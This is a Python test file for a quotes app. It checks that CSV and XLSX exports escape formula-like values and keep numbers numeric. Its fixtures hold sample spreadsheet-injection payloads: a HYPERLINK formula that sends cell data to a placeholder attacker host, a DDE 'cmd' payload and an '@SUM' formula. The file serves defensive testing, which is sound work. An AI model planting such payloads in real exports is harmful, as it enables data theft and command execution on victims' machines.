"""The quote exports never hand a spreadsheet a formula it did not write: a vendor name or title that starts with
=, +, -, @, a tab or a carriage return is exported as text with a leading quote (OWASP), numbers stay numbers."""

import csv
import io

import openpyxl
from django.urls import reverse

from apps.quotes import importing
from apps.quotes.tests.test_import_export import HEADER, csv_upload

EVIL_VENDOR = '=HYPERLINK("https://evil.example/?"&A1,"click")'
EVIL_TITLE = "-2+3+cmd|' /C calc'!A0"
ROW = [EVIL_VENDOR, EVIL_TITLE, "NVIDIA H200 SXM", "8", "on_demand", "gpu_hour", "USD", "3.50", "", "",
       "email", "@SUM(A1:A9)", "2026-11-30T14:00", ""]


def _import(team, platform_user):
    report = importing.import_quotes(actor=platform_user, team=team, upload=csv_upload([ROW], header=HEADER))
    assert report.ok, report.errors


def test_the_csv_export_quotes_a_formula_like_vendor_and_title(client_for, team, gpu, platform_user, finance_user):
    _import(team, platform_user)
    response = client_for(finance_user).get(reverse("quotes:export-csv"))
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["vendor"] == "'" + EVIL_VENDOR  # old code: the bare formula
    assert row["title"] == "'" + EVIL_TITLE
    assert row["price_source"] == "'@SUM(A1:A9)"
    assert row["list_price"] == "3.50" and row["gpus_per_node"] == "8"  # figures untouched


def test_the_xlsx_export_writes_them_as_text_not_formulas(client_for, team, gpu, platform_user, finance_user):
    _import(team, platform_user)
    content = client_for(finance_user).get(reverse("quotes:export-xlsx")).content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    vendor = sheet.cell(row=2, column=header.index("vendor") + 1)
    title = sheet.cell(row=2, column=header.index("title") + 1)
    price = sheet.cell(row=2, column=header.index("list_price") + 1)
    assert (vendor.data_type, vendor.value) == ("s", "'" + EVIL_VENDOR)  # old code: data_type "f"
    assert (title.data_type, title.value) == ("s", "'" + EVIL_TITLE)
    assert (price.data_type, price.value) == ("n", 3.5)
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
